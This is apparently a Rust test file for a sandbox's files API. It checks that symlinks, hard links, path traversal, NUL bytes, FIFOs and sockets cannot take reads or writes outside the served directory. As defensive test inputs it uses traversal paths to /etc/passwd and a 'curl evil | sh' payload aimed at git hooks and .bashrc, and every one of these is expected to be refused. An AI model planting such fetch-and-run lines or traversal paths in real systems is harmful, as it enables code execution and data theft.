//! G9: a session's files API, judged on the host directories themselves.

use std::path::PathBuf;

use stockade_hostfs::files::{Files, FilesError, Kind};

fn dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("stockade-files-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

#[test]
fn g9_paths_resolve_beneath_the_served_directory_whatever_the_guest_planted() {
    let home = dir("home");
    let outside = dir("outside");
    std::fs::write(outside.join("secret"), "host secret").unwrap();
    // What a guest could plant between two calls: links out, absolute and relative.
    std::os::unix::fs::symlink(outside.join("secret"), home.join("abs")).unwrap();
    std::os::unix::fs::symlink(
        format!("../{}/secret", outside.file_name().unwrap().to_string_lossy()),
        home.join("rel"),
    )
    .unwrap();
    std::os::unix::fs::symlink(&outside, home.join("outdir")).unwrap();
    let files = Files::default().serve("/home/user", &home, true, false).unwrap();
    for path in ["/home/user/abs", "/home/user/rel", "/home/user/outdir/secret"] {
        let e = files.read(path, 1 << 20).unwrap_err();
        assert!(matches!(e, FilesError::Io { .. }), "{path}: {e}");
        // Writing through them fails too, and changes nothing outside.
        assert!(files.write("/home/user/outdir/secret", &mut &b"pwned"[..], 1 << 20).is_err());
    }
    assert_eq!(std::fs::read_to_string(outside.join("secret")).unwrap(), "host secret");
    for path in ["/home/user/../../etc/passwd", "/etc/passwd", "home/user/x", "/home/user/a\0b"] {
        let e = files.read(path, 1 << 20).unwrap_err();
        assert!(matches!(e, FilesError::Invalid { .. }), "{path}: {e}");
        assert_eq!(e.to_string().lines().count(), 1);
    }
    // Opening to stream is the same lookup: the links fail, a directory is not a file,
    // and the cap is checked against the file's size before a byte is read.
    for path in ["/home/user/abs", "/home/user/rel", "/home/user/outdir/secret"] {
        assert!(matches!(files.open(path, 1 << 20), Err(FilesError::Io { .. })), "{path}");
    }
    std::fs::write(home.join("five"), "12345").unwrap();
    assert_eq!(files.open("/home/user/five", 5).unwrap().1, 5);
    assert!(matches!(files.open("/home/user/five", 4), Err(FilesError::TooLarge { limit: 4, .. })));
    std::fs::create_dir(home.join("sub")).unwrap();
    assert!(matches!(files.open("/home/user/sub", 1 << 20), Err(FilesError::Invalid { .. })));
    // A listing shows the links as links, and never enters them.
    let listed = files.list("/home/user", 3).unwrap();
    assert!(listed.iter().all(|e| !e.path.contains("secret")), "{listed:?}");
    assert!(listed.iter().any(|e| e.path == "/home/user/outdir" && e.kind == Kind::Symlink));
    let _ = (std::fs::remove_dir_all(&home), std::fs::remove_dir_all(&outside));
}

#[test]
fn g9_a_write_replaces_a_hard_link_and_an_oversize_write_changes_nothing() {
    let home = dir("hard");
    std::fs::write(home.join("original"), "keep me").unwrap();
    std::fs::hard_link(home.join("original"), home.join("link")).unwrap();
    let files = Files::default().serve("/home/user", &home, true, false).unwrap();
    assert_eq!(files.write("/home/user/link", &mut &b"new"[..], 100).unwrap(), 3);
    assert_eq!(std::fs::read_to_string(home.join("link")).unwrap(), "new");
    assert_eq!(std::fs::read_to_string(home.join("original")).unwrap(), "keep me", "not written through");
    let big = [b'x'; 101];
    let e = files.write("/home/user/link", &mut &big[..], 100).unwrap_err();
    assert!(matches!(e, FilesError::TooLarge { limit: 100, .. }), "{e}");
    assert_eq!(std::fs::read_to_string(home.join("link")).unwrap(), "new");
    assert_eq!(std::fs::read_dir(&home).unwrap().count(), 2, "no temporary file left");
    // The rest of the API, on the host's own view.
    assert!(files.mkdir("/home/user/a/b").unwrap());
    assert!(!files.mkdir("/home/user/a/b").unwrap());
    files.write("/home/user/a/b/c.txt", &mut &b"deep"[..], 100).unwrap();
    files.rename("/home/user/a/b/c.txt", "/home/user/a/d.txt").unwrap();
    assert_eq!(std::fs::read_to_string(home.join("a/d.txt")).unwrap(), "deep");
    assert_eq!(files.stat("/home/user/a/d.txt").unwrap().size, 4);
    assert!(files.exists("/home/user/a/b").unwrap());
    assert!(!files.exists("/home/user/nope").unwrap());
    assert!(matches!(files.read("/home/user/nope", 10), Err(FilesError::NotFound(_))));
    let depth1: Vec<String> = files.list("/home/user/a", 1).unwrap().into_iter().map(|e| e.path).collect();
    assert_eq!(depth1, ["/home/user/a/b", "/home/user/a/d.txt"]);
    files.remove("/home/user/a").unwrap();
    assert!(!home.join("a").exists());
    assert!(matches!(files.remove("/home/user"), Err(FilesError::Denied { .. })));
    let _ = std::fs::remove_dir_all(&home);
}

#[test]
fn g9_a_guarded_workspace_refuses_protected_paths_and_a_read_only_root_any_change() {
    let ws = dir("ws");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    let files = Files::default().serve("/workspace", &ws, true, true).unwrap();
    for path in ["/workspace/.git/hooks/pre-commit", "/workspace/.git/config", "/workspace/.bashrc"] {
        let e = files.write(path, &mut &b"curl evil | sh"[..], 100).unwrap_err();
        assert!(matches!(e, FilesError::Denied { .. }), "{path}: {e}");
    }
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    files.write("/workspace/src/main.py", &mut &b"print(1)"[..], 100).unwrap();
    let ro = Files::default().serve("/workspace", &ws, false, false).unwrap();
    assert!(matches!(ro.write("/workspace/x", &mut &b""[..], 1), Err(FilesError::Denied { .. })));
    assert!(matches!(ro.remove("/workspace/src"), Err(FilesError::Denied { .. })));
    assert_eq!(ro.read("/workspace/src/main.py", 100).unwrap(), b"print(1)");
    let _ = std::fs::remove_dir_all(&ws);
}

/// Opens `path` on another thread: its result once it returns, or `None` if it is still
/// blocked after a minute (a blocked open never returns at all, so this waits on the
/// event, with the minute only as the failure's bound).
fn open_elsewhere(files: &std::sync::Arc<Files>, path: &str) -> Option<Result<u64, String>> {
    let (tx, rx) = std::sync::mpsc::channel();
    let (files, path) = (std::sync::Arc::clone(files), path.to_owned());
    std::thread::spawn(move || {
        let _ = tx.send(files.open(&path, 1 << 20).map(|(_, n)| n).map_err(|e| e.to_string()));
    });
    rx.recv_timeout(std::time::Duration::from_secs(60)).ok()
}

#[test]
fn g9_a_fifo_socket_or_link_to_one_is_refused_without_waiting_for_a_writer() {
    let home = dir("fifo");
    assert!(std::process::Command::new("mkfifo").arg(home.join("result.csv")).status().unwrap().success());
    std::os::unix::fs::symlink("result.csv", home.join("link.csv")).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(home.join("sock")).unwrap();
    let files = std::sync::Arc::new(Files::default().serve("/home/user", &home, true, false).unwrap());
    for (path, kind) in [("/home/user/result.csv", "fifo"), ("/home/user/link.csv", "fifo"), ("/home/user/sock", "")] {
        let got = open_elsewhere(&files, path).unwrap_or_else(|| panic!("{path}: the open blocked"));
        let e = got.unwrap_err();
        assert!(e.starts_with(path) && e.lines().count() == 1, "{path}: {e}");
        assert!(e.contains(kind), "{path}: {e}");
    }
    // `read` takes the same open, so it does not wait either.
    let (tx, rx) = std::sync::mpsc::channel();
    let f = std::sync::Arc::clone(&files);
    std::thread::spawn(move || tx.send(f.read("/home/user/result.csv", 10).is_err()));
    assert_eq!(rx.recv_timeout(std::time::Duration::from_secs(60)), Ok(true), "read of a fifo blocked");
    // A regular file still opens.
    std::fs::write(home.join("ok"), "fine").unwrap();
    assert_eq!(open_elsewhere(&files, "/home/user/ok"), Some(Ok(4)));
    let _ = std::fs::remove_dir_all(&home);
}

#[test]
fn g9_a_directory_served_within_a_root_is_resolved_beneath_that_root() {
    // A container's root seen from the host: its home is served read-only, and a link in
    // the image that points out (absolute, or up) is refused, not followed on the host.
    let root = dir("within");
    let outside = dir("within-outside");
    std::fs::create_dir_all(root.join("home/user")).unwrap();
    std::fs::write(root.join("home/user/kept.txt"), "inside").unwrap();
    std::fs::create_dir_all(outside.join("user")).unwrap();
    std::os::unix::fs::symlink(&outside, root.join("abs")).unwrap();
    std::os::unix::fs::symlink("../../..", root.join("up")).unwrap();
    let files = Files::default().serve_within("/home/user", &root, "/home/user").unwrap();
    assert_eq!(files.read("/home/user/kept.txt", 64).unwrap(), b"inside");
    let e = files.write("/home/user/new.txt", &mut &b"x"[..], 64).unwrap_err();
    assert!(matches!(e, FilesError::Denied { .. }), "{e}");
    assert!(!root.join("home/user/new.txt").exists());
    for inside in ["abs/user", "up/tmp", "../home/user"] {
        assert!(Files::default().serve_within("/home/user", &root, inside).is_err(), "{inside} was followed out");
    }
    let _ = std::fs::remove_dir_all(&root);
    let _ = std::fs::remove_dir_all(&outside);
}
